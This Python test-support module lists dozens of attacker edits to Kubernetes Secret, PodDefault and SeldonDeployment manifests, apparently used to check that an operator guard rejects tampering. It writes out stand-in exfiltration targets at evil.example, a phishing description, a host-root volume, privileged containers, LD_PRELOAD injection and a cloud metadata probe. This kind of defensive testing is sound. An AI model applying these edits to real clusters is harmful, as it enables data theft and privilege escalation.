"""Writes of an attacker who has the operator's token. Each changes one field of an object that the operator applies.

Some release admitted it, or the serving platform, the cluster or a mesh acts on the field.
"""

import copy
from collections.abc import Callable
from typing import Any

from support.earlier import earlier_manifests
from support.guard import applied, shared

Object = dict[str, Any]
KINDS = {"Secret": "secrets", "PodDefault": "poddefaults", "SeldonDeployment": "seldondeployments"}
EARLIER = {str(earlier): earlier for earlier in earlier_manifests()}
OWN = {f"SeldonDeployment {case}": applied(earlier) for case, earlier in EARLIER.items()} | {
    f"{manifest['kind']} {name}": manifest for name, manifest in shared().items()
}
GUIDE = OWN["SeldonDeployment with-and-without-executor-guide"]


def changed(kind: str, change: Callable[[Object], object]) -> Object:
    manifest = copy.deepcopy(GUIDE if kind == "SeldonDeployment" else next(one for one in OWN.values() if one["kind"] == kind))
    change(manifest)
    return manifest


def predictor_of(manifest: Object) -> Any:
    return manifest["spec"]["predictors"][0]


def part_of(manifest: Object) -> Any:
    return predictor_of(manifest)["componentSpecs"][0]


def pod_of(manifest: Object) -> Any:
    return part_of(manifest)["spec"]


def server_of(manifest: Object) -> Any:
    return pod_of(manifest)["containers"][0]


def graph_of(manifest: Object) -> Any:
    return predictor_of(manifest)["graph"]


def hook_of(manifest: Object) -> Any:
    return server_of(manifest)["lifecycle"]["preStop"]["exec"]


def annotates(annotation: str, value: str) -> Callable[[Object], object]:
    return lambda it: it["metadata"].setdefault("annotations", {}).update({annotation: value})


def labels(label: str, value: str) -> Callable[[Object], object]:
    return lambda it: it["metadata"]["labels"].update({label: value})


def adds_a_variable(**variable: object) -> Callable[[Object], object]:
    return lambda it: it["spec"]["env"].append(variable)


def owned(**changes: object) -> Callable[[Object], object]:
    return lambda it: it["metadata"]["ownerReferences"][0].update(changes)


ANYTHING: dict[str, Callable[[Object], object]] = {
    "a label": labels("access-minio", "true"),
    "no label": lambda it: it["metadata"]["labels"].pop("app.kubernetes.io/managed-by"),
    "an annotation": annotates("example.org/other", "x"),
    "a finalizer": lambda it: it["metadata"].update(finalizers=["example.org/stays"]),
    "another kind of owner": owned(kind="ConfigMap", apiVersion="v1"),
    "an owner that waits": owned(blockOwnerDeletion=True),
    "a controller": owned(controller=True),
}
ATTACKS: dict[str, dict[str, Callable[[Object], object]]] = {
    "Secret": {
        **ANYTHING,
        "another name": lambda it: it["metadata"].update(name="planted"),
        "a service account's token": lambda it: [
            it.update(type="kubernetes.io/service-account-token"),
            annotates("kubernetes.io/service-account.name", "default-editor")(it),
        ],
        "another variable": lambda it: it["data"].update(LD_PRELOAD="eA=="),
        "a command of rclone's": lambda it: it["data"].update(RCLONE_PASSWORD_COMMAND="eA=="),
        "another remote": lambda it: it["data"].update(RCLONE_CONFIG_EVIL_TYPE="c2Z0cA=="),
        "another kind of store": lambda it: it["data"].update(RCLONE_CONFIG_S3_TYPE="c2Z0cA=="),
        "text": lambda it: it.update(stringData={"LD_PRELOAD": "x"}),
        "for ever": lambda it: it.update(immutable=True),
    },
    "PodDefault": {
        **ANYTHING,
        "another name": lambda it: it["metadata"].update(name="planted"),
        "for every pod": lambda it: it["spec"]["selector"].update(matchLabels={}),
        "for others' pods": lambda it: it["spec"]["selector"].update(matchLabels={"app": "notebook"}),
        "for more pods": lambda it: it["spec"]["selector"]["matchLabels"].update({it["metadata"]["name"]: "false"}),
        "for pods by expression": lambda it: it["spec"]["selector"].update(matchExpressions=[{"key": "a", "operator": "Exists"}]),
        "a sidecar": lambda it: it["spec"].update(sidecars=[{"name": "mine"}]),
        "a command": lambda it: it["spec"].update(command=["sh"]),
        "a service account": lambda it: it["spec"].update(serviceAccountName="default-editor"),
        "a token": lambda it: it["spec"].update(automountServiceAccountToken=True),
        "a volume": lambda it: it["spec"].update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
        "a shell's variable": adds_a_variable(name="PROMPT_COMMAND", value="id"),
        "another variable of MLflow's": adds_a_variable(name="MLFLOW_TRACKING_INSECURE_TLS", value="true"),
        "another Secret": adds_a_variable(name="AWS_X", valueFrom={"secretKeyRef": {"name": "other", "key": "k"}}),
        "another MLflow": lambda it: it["spec"]["env"].__setitem__(
            0, {"name": "MLFLOW_TRACKING_URI", "value": "http://evil.example"}
        ),
        "text for people": lambda it: it["spec"].update(desc="Enter your password at http://evil.example"),
    },
    "SeldonDeployment": {
        **ANYTHING,
        "the name of another resource": lambda it: it["metadata"].update(name="other"),
        "another resource's owner": owned(name="other"),
        "no owner": lambda it: it["metadata"].update(ownerReferences=[]),
        "a label of another pipeline": labels("winepipelines.io/pipeline", "other"),
        "another controller of Seldon's": labels("seldon.io/controller-id", "other"),
        "Istio's gateway": annotates("seldon.io/istio-gateway", "kubeflow/kubeflow-gateway"),
        "Istio's host": annotates("seldon.io/istio-host", "*"),
        "a mapping of Ambassador's": annotates("seldon.io/ambassador-config", "x"),
        "a server's annotation in the spec": lambda it: it["spec"].update(annotations={"seldon.io/engine-separate-pod": "true"}),
        "Kafka": lambda it: it["spec"].update(serverType="kafka"),
        "another transport": lambda it: it["spec"].update(transport="grpc"),
        "another protocol": lambda it: it["spec"].update(protocol="tensorflow"),
        "a password": lambda it: it["spec"].update(oauth_key="k", oauth_secret="s"),
        "another image": lambda it: server_of(it).update(image="evil"),
        "an image whose name begins alike": lambda it: server_of(it).update(image=server_of(it)["image"].replace(":", "-evil:")),
        "an image without a tag": lambda it: server_of(it).update(image=server_of(it)["image"].rpartition(":")[0]),
        "no image": lambda it: server_of(it).pop("image"),
        "a second container": lambda it: pod_of(it)["containers"].append({"name": "x", "image": "evil"}),
        "an init container": lambda it: pod_of(it).update(initContainers=[{"name": "x"}]),
        "a service account": lambda it: pod_of(it).update(serviceAccountName="default-editor"),
        "a volume": lambda it: pod_of(it).update(volumes=[{"name": "x", "secret": {"secretName": "other"}}]),
        "the node's network": lambda it: pod_of(it).update(hostNetwork=True),
        "the node by name": lambda it: pod_of(it).update(nodeName="control-plane"),
        "the node by label": lambda it: pod_of(it).update(nodeSelector={"node-role.kubernetes.io/control-plane": ""}),
        "a toleration": lambda it: pod_of(it).update(tolerations=[{"operator": "Exists"}]),
        "a priority": lambda it: pod_of(it).update(priorityClassName="system-node-critical"),
        "a pull secret": lambda it: pod_of(it).update(imagePullSecrets=[{"name": "other"}]),
        "another runtime": lambda it: pod_of(it).update(runtimeClassName="privileged"),
        "an address of a host": lambda it: pod_of(it).update(hostAliases=[{"ip": "10.0.0.1", "hostnames": ["minio"]}]),
        "processes of other containers": lambda it: pod_of(it).update(shareProcessNamespace=True),
        "root": lambda it: pod_of(it)["securityContext"].update(runAsUser=0),
        "any user": lambda it: pod_of(it)["securityContext"].pop("runAsNonRoot"),
        "all system calls": lambda it: pod_of(it)["securityContext"].update(seccompProfile={"type": "Unconfined"}),
        "no security context": lambda it: pod_of(it).pop("securityContext"),
        "a token": lambda it: pod_of(it).update(automountServiceAccountToken=True),
        "a token by default": lambda it: pod_of(it).pop("automountServiceAccountToken"),
        "no security context of the server": lambda it: server_of(it).pop("securityContext"),
        "privileges": lambda it: server_of(it).update(securityContext={"privileged": True}),
        "a capability": lambda it: server_of(it)["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
        "a command": lambda it: server_of(it).update(command=["sh"]),
        "a hook": lambda it: server_of(it).update(lifecycle={}),
        "a command before the end": lambda it: hook_of(it).update(command=["sh", "-c", "id"]),
        "a command beside the wait": lambda it: hook_of(it)["command"].append("x"),
        "a request before the end": lambda it: server_of(it)["lifecycle"]["preStop"].update(httpGet={"port": 80}),
        "a command after the start": lambda it: server_of(it)["lifecycle"].update(postStart={"exec": {"command": ["id"]}}),
        "a command as a probe": lambda it: server_of(it).update(livenessProbe={"exec": {"command": ["id"]}}),
        "a probe of another host": lambda it: server_of(it)["readinessProbe"]["httpGet"].update(host="169.254.169.254"),
        "a probe's header": lambda it: server_of(it)["startupProbe"]["httpGet"].update(httpHeaders=[{"name": "a", "value": "b"}]),
        "a port of the node": lambda it: server_of(it)["ports"][0].update(hostPort=80),
        "a Secret as variables": lambda it: server_of(it).update(envFrom=[{"secretRef": {"name": "other"}}]),
        "another variable": lambda it: server_of(it).update(env=[{"name": "LD_PRELOAD", "value": "x"}]),
        "a digest of a Secret": lambda it: server_of(it).update(
            env=[{"name": "MODEL_DIGEST", "valueFrom": {"secretKeyRef": {"name": "other", "key": "k"}}}]
        ),
        "a digest and a variable": lambda it: server_of(it).update(
            env=[{"name": "MODEL_DIGEST", "value": f"sha256:{'0' * 64}"}, {"name": "LD_PRELOAD", "value": "x"}]
        ),
        "a model of a volume claim": lambda it: graph_of(it).update(modelUri="pvc://other/model"),
        "a model of another store": lambda it: graph_of(it).update(modelUri="gs://other/model"),
        "a model by options of rclone's": lambda it: graph_of(it).update(modelUri=":s3,endpoint=evil.example:b/m"),
        "a model with another Secret": lambda it: graph_of(it).update(envSecretRefName="other"),
        "another server": lambda it: graph_of(it).update(implementation="TRITON_SERVER"),
        "another initializer": lambda it: graph_of(it).update(storageInitializerImage="evil"),
        "a graph's service account": lambda it: graph_of(it).update(serviceAccountName="default-editor"),
        "a graph's child": lambda it: graph_of(it).update(children=[{"name": "x"}]),
        "a copy of all requests": lambda it: graph_of(it).update(logger={"mode": "all", "url": "http://evil.example"}),
        "another endpoint": lambda it: graph_of(it).update(endpoint={"service_host": "evil.example"}),
        "parameters": lambda it: graph_of(it).update(parameters=[{"name": "model_uri", "type": "STRING", "value": "/etc"}]),
        "an explainer": lambda it: predictor_of(it).update(explainer={"containerSpec": {"image": "evil", "name": "x"}}),
        "a certificate's Secret": lambda it: predictor_of(it).update(ssl={"certSecretName": "other"}),
        "the orchestrator's variables": lambda it: predictor_of(it).update(svcOrchSpec={"env": [{"name": "X"}]}),
        "a Service of another name": lambda it: predictor_of(it)["annotations"].update({"seldon.io/svc-name": "kubernetes"}),
        "labels of another's pods": lambda it: predictor_of(it).update(labels={"app": "other"}),
        "a shadow": lambda it: predictor_of(it).update(shadow=True),
        "a second predictor": lambda it: it["spec"]["predictors"].append({"name": "x", "graph": {"name": "x"}}),
        "a third predictor": lambda it: it["spec"]["predictors"].extend(
            [{**copy.deepcopy(predictor_of(it)), "name": "candidate", "traffic": 0}] * 2
        ),
        "a predictor without a server": lambda it: predictor_of(it).pop("componentSpecs"),
        "pods' labels": lambda it: part_of(it)["metadata"].update(labels={"access-minio": "true"}),
        "pods' annotations": lambda it: part_of(it)["metadata"]["annotations"].update({"sidecar.istio.io/inject": "false"}),
        "pods of another namespace": lambda it: part_of(it)["metadata"].update(namespace="kube-system"),
        "an autoscaler of KEDA's": lambda it: part_of(it).update(kedaSpec={"triggers": []}),
        "a budget": lambda it: part_of(it).update(pdbSpec={"maxUnavailable": 0}),
        "a metric of another object": lambda it: part_of(it).update(
            hpaSpec={"minReplicas": 1, "maxReplicas": 2, "metricsv2": [{"type": "External"}]}
        ),
    },
}
CASES = [(kind, attack) for kind, attacks in ATTACKS.items() for attack in attacks]
